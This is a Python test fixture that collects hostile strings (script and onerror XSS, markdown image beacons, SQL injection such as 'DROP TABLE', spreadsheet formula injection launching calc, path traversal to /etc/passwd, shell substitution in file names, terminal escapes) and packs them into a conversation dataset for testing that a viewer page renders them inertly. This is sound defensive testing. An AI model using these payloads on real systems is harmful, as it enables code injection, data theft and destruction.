"""Texts that try to be more than text: by name, for pools, file names and what a user types.

Each that could fetch asks CANARY, a host that does not exist, and each that could run sets
`window.__hit` or opens a dialog: a page that shows them is right when neither happens.
"""

from __future__ import annotations

import json

CANARY = "https://canary.invalid"
_RUN = "window.__hit=1"

HTML = {
    "script": f"<script>{_RUN}</script>",
    "script from afar": f"<script src='{CANARY}/x.js'></script>",
    "script that ends another": f"</script><script>{_RUN}</script>",
    "picture with an error": f"<img src=x onerror='{_RUN}'>",
    "picture from afar": f"<img src='{CANARY}/html.png'>",
    "svg": f"<svg onload='{_RUN}'><script>{_RUN}</script></svg>",
    "frame": f"<iframe src='{CANARY}/frame' srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "link that runs": f"<a href='javascript:{_RUN}'>press</a>",
    "style": f"<style>@import url({CANARY}/x.css); body{{background:url({CANARY}/b.png)}}</style>",
    "form": f"<form action='{CANARY}/steal'><input name=key><button>go</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/away'>",
    "base": f"<base href='{CANARY}/'>",
    "details": f"<details open ontoggle='{_RUN}'><summary>s</summary></details>",
    "half a tag": f"<img src='{CANARY}/half.png'",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "template": "{{constructor.constructor('window.__hit=1')()}} ${window.__hit=1}",
    "comment": f"<!-- --><script>{_RUN}</script><!--",
    "out of an attribute": f"\"'><img src=x onerror={_RUN}>",
}
MARKDOWN = {
    "picture": f"![seen]({CANARY}/md.png)",
    "picture by reference": f"![seen][1]\n\n[1]: {CANARY}/ref.png",
    "picture in a link": f"[![seen]({CANARY}/inner.png)]({CANARY}/outer)",
    "picture in a table": f"| a | b |\n| - | - |\n| ![x]({CANARY}/table.png) | y |",
    "picture in a heading": f"# ![x]({CANARY}/head.png)",
    "picture over two lines": f"![two\nlines]({CANARY}/two.png)",
    "picture behind a fence": f"```\ncode\n```\n![x]({CANARY}/fence.png)",
    "fence that is no fence": f"``` `\n![x]({CANARY}/nofence.png)\n```",
    "link": f"[press]({CANARY}/link)",
    "link that runs": f"[press](javascript:{_RUN})",
    "link of data": "[press](data:text/html,<script>window.__hit=1</script>)",
    "bare address": f"{CANARY}/bare",
    "address in brackets": f"<{CANARY}/auto>",
    "footnote": f"text[^1]\n\n[^1]: ![x]({CANARY}/foot.png)",
    "diagram": f"```mermaid\ngraph TD; A-->B; click A '{CANARY}/click'\n```",
    "heading": "# Large heading\n\n## Smaller",
    "rule": "above\n\n---\n\nbelow",
    "list without an end": "- " * 200,
    "quotes without an end": ">" * 500 + " deep",
    "emphasis without an end": "*" * 2_000,
    "brackets without an end": "[" * 2_000,
    "backticks without an end": "`" * 999,
}
STREAMLIT = {
    "colour": ":red[alarm] :blue-background[x] :rainbow[y]",
    "icon": ":material/delete: :streamlit:",
    "emoji": ":smile: :+1:",
    "small": ":small[tiny]",
    "badge": ":green-badge[:material/check: Approved]",
    "arrows": "-> <- <-> -- >= <= ~=",
    "nested directives": ":red[:blue[:green[deep]]]" * 20,
    "directive without an end": ":red[",
}
FORMULAS = {
    "inline": "costs $5 and $x^2$ more",
    "block": r"$$\int_0^1 \frac{1}{x}\,dx$$",
    "picture": rf"$\includegraphics{{{CANARY}/tex.png}}$",
    "link": rf"$\href{{javascript:{_RUN}}}{{press}}$",
    "address": rf"$\url{{{CANARY}/tex}}$",
    "class": r"$\htmlClass{stAlert}{x} \htmlStyle{position:fixed}{y}$",
    "macro that grows": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b\b\b}\c\c$",
    "macro without an end": r"$\def\a{\a\a}\a$",
    "file": r"$\input{/etc/passwd}$",
}
SQL = {
    "end of a text": "'; DROP TABLE conversations; --",
    "or": "' OR 1=1 --",
    "union": "' UNION SELECT * FROM sources --",
    "copy": "'; COPY (SELECT 1) TO '/tmp/deita-hostile-was-here'; --",
    "read": "' || (SELECT content FROM read_text('/etc/passwd')) || '",
    "attach": "'; ATTACH '/tmp/deita-hostile-was-here.duckdb' AS x; --",
    "parameters": "$1 ? :name %s {0}",
    "name in quotes": '"; DROP TABLE conversations; --"',
    "like": "%_%\\%",
    "expression": "(a+)+$",
    "expression without an end": "([a-z" * 40,
    "long": "x" * 5_000,
}
FORMULA_CELLS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link": f'=HYPERLINK("{CANARY}/cell","press")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "line end": "\r=1+1",
    "newline": "\n=1+1",
}
CHARACTERS = {
    "nothing": "",
    "zero byte": "before\0after",
    "controls": "".join(map(chr, range(1, 32))),
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "bell": "\a" * 10,
    "right to left": "\u202egnp.exe\u202c",
    "isolates without an end": "\u2067" * 100,
    "joined": "a" + "\u0301" * 1_000,
    "wide": "𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦 🏴‍☠️",
    "invisible": "\u200b\u2060\ufeff\u00ad",
    "line ends": "a\rb\r\nc\u2028d\u2029e\x85f\x0bg\x0ch",
    "not a character": "\ufffe\uffff",
    "half a pair": "\ud800 \udfff",
    "replacement": "\ufffd",
    "one long word": "W" * 100_000,
    "many lines": "\n" * 20_000,
}
NAMES = {
    "quote": 'it\'s "quoted".jsonl',
    "newline": "two\nlines.jsonl",
    "space": " .jsonl",
    "dots": "..jsonl",
    "option": "--force.jsonl",
    "variable": "$HOME `id` $(id) %PATH%.jsonl",
    "wildcard": "*?[a].jsonl",
    "sql": "'; DROP TABLE sources; --.jsonl",
    "html": "<img src=x onerror=window.__hit=1>.jsonl",
    "markdown": "![x](canary.invalid).jsonl",
    "directive": ":red[x] :material.jsonl",
    "formula": "=1+1.jsonl",
    "turned round": "\u202elnosj.exe.jsonl",
    "not utf-8": "bad\udcff.jsonl",
    "long": "n" * 240 + ".jsonl",
    "terminal": "\x1b[31mred.jsonl",
}
PATHS = {
    "up": "../outside.jsonl",
    "far up": "../" * 20 + "etc/passwd",
    "absolute": "/etc/passwd",
    "device": "/dev/zero",
    "process": "/proc/self/environ",
    "home": "~/outside.jsonl",
    "address": f"{CANARY}/pool.jsonl",
    "file address": "file:///etc/passwd",
    "zero byte": "pool\0.jsonl",
    "backslashes": "..\\..\\outside.jsonl",
    "pipe": "|id",
}

KINDS: dict[str, dict[str, str]] = {
    "html": HTML,
    "markdown": MARKDOWN,
    "streamlit": STREAMLIT,
    "formula": FORMULAS,
    "sql": SQL,
    "cell": FORMULA_CELLS,
    "characters": CHARACTERS,
}


def every_text() -> dict[str, str]:
    """All texts but names and paths, by "kind: name"."""
    return {
        f"{kind}: {name}": text for kind, texts in KINDS.items() for name, text in texts.items()
    }


def hostile_record(name: str, text: str) -> dict[str, object]:
    """A ShareGPT record with the text in every place that a page shows."""
    said = [("system", text), ("human", text), ("function_call", text), ("observation", text)]
    said += [("gpt", text), ("human", f"And {name}? {text}"), ("gpt", f"```\n{text}\n```")]
    conversations = [{"from": role, "value": value} for role, value in said]
    return {"id": text, "conversations": conversations, "tools": text, text or "nothing": text}


def hostile_pool() -> str:
    """JSON Lines with a record for each text; a last line that is rejected shows them all."""
    texts = every_text()
    lines = [json.dumps(hostile_record(name, text)) for name, text in texts.items()]
    broken = json.dumps(
        {"conversations": [{"from": HTML["script"], "value": "".join(HTML.values())}]}
    )
    return "\n".join([*lines, broken, f"{{{MARKDOWN['picture']}{HTML['picture with an error']}"])
